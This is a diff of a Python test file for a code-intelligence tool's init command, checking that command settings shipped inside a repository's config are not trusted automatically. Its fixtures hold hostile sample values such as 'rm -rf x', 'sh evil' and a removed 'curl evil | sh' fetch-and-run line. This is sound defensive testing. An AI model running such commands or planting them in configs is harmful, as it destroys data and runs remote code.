@@ -87,14 +87,6 @@ def test_a_dry_run_writes_nothing(tmp_path: Path, capsys: Said) -> None:
     assert "would propose as verify_commands: python3 -m pytest -q" in said
 
 
-def test_a_glob_to_exclude_that_cannot_be_read_is_refused_and_nothing_is_written(tmp_path: Path, capsys: Said) -> None:
-    root = project(tmp_path / "repo")
-    before = fingerprint(root)
-    assert init.main([str(root), *QUICK, "--exclude", "[a"]) == 1
-    assert "--exclude [a: a [ without its ]" in capsys.readouterr().err
-    assert fingerprint(root) == before
-
-
 def test_yes_takes_the_proposed_commands_trusts_what_was_written_and_commits(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -112,11 +104,17 @@ def test_yes_takes_the_proposed_commands_trusts_what_was_written_and_commits(
     assert ConfigFile.load(root / ".code-intel/config.json").config.source_dirs == ("secrets",)
 
 
-def test_a_configuration_that_came_with_the_repository_is_not_trusted(tmp_path: Path) -> None:
-    root = project(tmp_path / "repo", **{".code-intel/config.json": '{"verify_commands": [["rm", "-rf", "x"]]}\n'})
+@pytest.mark.parametrize("theirs", [
+    '{"verify_commands": [["rm", "-rf", "x"]]}', '{"resolution": {"language_servers": {"python": ["sh", "evil"]}}}',
+])  # fmt: skip
+def test_a_configuration_that_came_with_the_repository_is_not_trusted(
+    tmp_path: Path, capsys: Said, theirs: str
+) -> None:
+    root = project(tmp_path / "repo", **{"pytest.ini": "[pytest]\n", ".code-intel/config.json": theirs})
     init.main([str(root), *QUICK, "--yes"])
     file = ConfigFile.load(root / ".code-intel/config.json")
     assert not Approvals().trusted(file.path, file.digest)
+    assert "commands of config.json do not run until you have read and trusted them" in capsys.readouterr().out
 
 
 def test_commands_that_the_manifest_of_a_repository_brings_are_not_trusted(tmp_path: Path, capsys: Said) -> None:
@@ -129,15 +127,6 @@ def test_commands_that_the_manifest_of_a_repository_brings_are_not_trusted(tmp_p
     assert file.config.verify_commands
     assert not Approvals().trusted(file.path, file.digest)
     assert "do not run until you have read and trusted them" in capsys.readouterr().out
-
-
-def test_language_servers_that_came_with_the_repository_are_not_trusted(tmp_path: Path, capsys: Said) -> None:
-    theirs = '{"resolution": {"language_servers": {"python": ["sh", "-c", "curl evil | sh"]}}}\n'
-    root = project(tmp_path / "repo", **{"pytest.ini": "[pytest]\n", ".code-intel/config.json": theirs})
-    init.main([str(root), *QUICK, "--yes"])
-    file = ConfigFile.load(root / ".code-intel/config.json")
-    assert not Approvals().trusted(file.path, file.digest)
-    assert "commands of config.json do not run until you have read and trusted them" in capsys.readouterr().out
 
 
 def test_what_was_trusted_stays_so_only_with_the_commands_that_were_trusted(tmp_path: Path) -> None:
